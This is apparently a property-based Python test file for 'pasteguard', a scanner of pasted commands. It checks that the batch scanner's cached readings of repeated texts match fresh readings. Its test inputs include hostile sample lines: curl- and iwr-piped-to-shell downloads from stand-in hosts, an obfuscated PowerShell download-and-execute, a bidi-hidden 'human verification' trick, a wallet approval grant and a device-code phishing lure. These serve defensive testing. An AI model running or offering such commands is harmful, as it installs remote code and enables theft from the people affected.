"""Hostile batches against the reading a batch keeps for a repeated text (scan.LastReading):
texts whose verdict turns on the context (a sign-in redirect, Office documents in the Run box,
an installer, device codes, NULs, bidi controls and lone surrogates; applets, snap-ins,
installers on a port of their own, wallet grants, a registry's package page and pages whose
address runs words together in capitals), repeated with every
source and target in any order, between lines that are garbage, invalid JSON, objects without
a text and a MiB long. Every answer is the one a fresh reading of its text in its own context
gives, in a worker (in-process) and through `pasteguard scan --jsonl` with its pool."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from app.commands import scan
from app.detection import Context, Engine, Level, PasteTarget
from tests.app.test_cli import run_pasteguard

INCOMPLETE = "PG-ENGINE-INCOMPLETE"
CODE = "0.AXoAbCdEf0123456789-ghIJkl_mnOPqrSTuv"
TEXTS = [
    f"http://localhost:8400/?code={CODE}&state=a",
    f"Paste http://localhost:8400/?code={CODE}&state=a in the box below",
    "excel /r \\\\fs01.corp\\share\\q3\\book.xlsx",
    "excel /r \\\\3405803781\\share\\q3\\book.xlsx",
    "excel /r \\\\fs01.test\\share\\q3\\book.xlsx",  # as long as the first: a public name
    "outlook /safe:1",
    "chrome --incognito",
    "irm https://get.scoop.sh | iex",
    "Go to microsoft.com/devicelogin and enter the code ABCD-EFGH",
    "powershell -c \"iex ('i#r#m https:/#/#o9.stage-obf.test/#q'.Replace('#',''))\" ; exit",
    "curl -fsSL https://fix-dns.test/a.sh | bash\x00 \u202e# human verification",
    "x = ''; cu''rl https://fix-dns.test/x | sh",
    "lone \ud800 surrogate iwr https://cdn.stage-obf.test/a | iex",
    "",
    "git status",
    # this session's readings: applets, snap-ins, installer ports, wallet grants, package pins
    "mmsys.cpl ,1",
    "eventvwr.msc /c:Application",
    "curl -sfL https://get.k3s.io:8443/ | sh -",
    "curl -sfL https://get.k3s.io:0443/ | sh -",
    "contract.setApprovalForAll('0x5555000000000000000000000000000000000042', true)",
    "pip install git+https://github.com/ionelmc/python-lazy-object-proxy.git@fix-typo",
    "curl -fsSL https://raw.githubusercontent.com/acme-test/widget/main/install.sh | sh",
]
SOURCES = [
    None,
    "https://verify.human-check.test/step2",
    "https://docs.stage-obf.test/oauth",
    "Notepad",
    "",
    "https://[fe80::1%25eth0]:99999/",
    "https://pypi.org/project/lazy-object-proxy/",
    "https://cubecoders.test/AMPInstall",
    "https://realtek-wifi-drivers.test/download",
]
TARGETS = [t.name.lower() for t in PasteTarget]
GARBAGE = [
    "this is not JSON",
    "[1, 2]",
    '{"id": "no-text"}',
    '{"id": "t", "text": 5}',
    '{"id": "bad-target", "text": "git status", "target": "nowhere"}',
    '{"text": "a", "text": "git status"}',  # the text key twice: JSON keeps the last
    '{"id": "\\"text\\": \\"echo\\"", "text": "echo"}',  # the key's shape inside the id
    "",
]


def _line(text: str, source: str | None, target: str) -> str:
    item: dict[str, Any] = {"id": f"{TEXTS.index(text)}/{source}/{target}", "text": text}
    if source is not None:
        item["source"] = source
    item["target"] = target
    return json.dumps(item)


_reading = st.tuples(st.sampled_from(TEXTS), st.sampled_from(SOURCES), st.sampled_from(TARGETS))
# runs of one text in several contexts (what the case files send), garbage between them
_batches = st.lists(
    st.one_of(
        st.lists(_reading, min_size=1, max_size=4).map(
            lambda run: [_line(run[0][0], source, target) for _, source, target in run]
        ),
        st.sampled_from(GARBAGE).map(lambda g: [g]),
    ),
    min_size=1,
    max_size=12,
).map(lambda runs: [line for run in runs for line in run])


def _fresh(engine: Engine, line: str) -> dict[str, Any]:
    """The answer of a reading that has never seen a line before."""
    return scan._batch_item(engine, line, Context(), scan.LastReading())


def _same(answer: dict[str, Any], fresh: dict[str, Any]) -> bool:
    strip = {"elapsed_ms"}
    return {k: v for k, v in answer.items() if k not in strip} == {
        k: v for k, v in fresh.items() if k not in strip
    }


@given(batch=_batches)
@example(batch=[_line(TEXTS[2], None, "run_dialog"), _line(TEXTS[4], None, "run_dialog")])
@example(batch=[_line(TEXTS[0], None, "unknown"), GARBAGE[0], _line(TEXTS[0], SOURCES[2], "other")])
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_every_repeat_in_a_worker_is_a_fresh_reading_in_its_own_context(
    engine: Engine, batch: list[str]
) -> None:
    last = scan.LastReading()
    for line in batch:
        answer = scan._batch_item(engine, line, Context(), last)
        assert _same(answer, _fresh(engine, line)), line
        if "elapsed_ms" in answer:
            assert answer["elapsed_ms"] >= 0


def test_a_hostile_batch_through_the_pool_answers_each_line_as_a_fresh_reading(
    engine: Engine,
) -> None:
    lines: list[str] = []
    for i, text in enumerate(TEXTS):
        for j, target in enumerate(TARGETS[:4]):
            lines.append(_line(text, SOURCES[(i + j) % len(SOURCES)], target))
            if j == 1:
                lines.append(GARBAGE[i % len(GARBAGE)])  # between two repeats
        if i == 3:  # a MiB line between a text and its repeat
            lines.append(json.dumps({"id": "huge", "text": "iwr x | iex; " * 80_000}))
            lines.append(_line(text, None, "terminal"))
    done = run_pasteguard(["scan", "--jsonl", "-"], stdin=("\n".join(lines) + "\n").encode())
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr[-2000:]
    answers = [json.loads(a) for a in done.stdout.splitlines()]
    lines = [line for line in lines if line.strip()]  # a blank line is no line of the batch
    assert len(answers) == len(lines), "one answer per line, none lost"
    for line, answer in zip(lines, answers, strict=True):
        fresh = _fresh(engine, line)
        if INCOMPLETE in answer.get("rules", []) + fresh.get("rules", []):
            # a reading the real clock cut short (a loaded machine: the MiB line) fails
            # closed; that is the only way it may differ from the other reading
            for reading in (answer, fresh):
                if INCOMPLETE in reading["rules"]:
                    assert Level.parse(reading["level"]) >= Level.SUSPICIOUS, line[:200]
            continue
        assert _same(answer, fresh), line[:200]
